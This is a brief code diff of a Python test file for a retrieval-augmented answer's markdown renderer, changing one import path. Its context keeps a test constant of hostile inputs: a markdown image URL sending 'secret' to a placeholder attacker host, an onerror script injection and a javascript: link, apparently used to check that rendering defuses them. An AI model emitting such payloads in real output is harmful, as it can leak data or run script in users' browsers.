@@ -4,7 +4,7 @@ from __future__ import annotations
 
 import re
 
-from rag.index.types import Answer, Citation, SourceRef
+from rag.core.types import Answer, Citation, SourceRef
 from ui.markdown import answer_markdown, inert, strip_sources
 
 HOSTILE = '![pixel](http://evil.example/p.png?q=secret) <img src=x onerror="alert(1)"> [site](javascript:alert(1))'
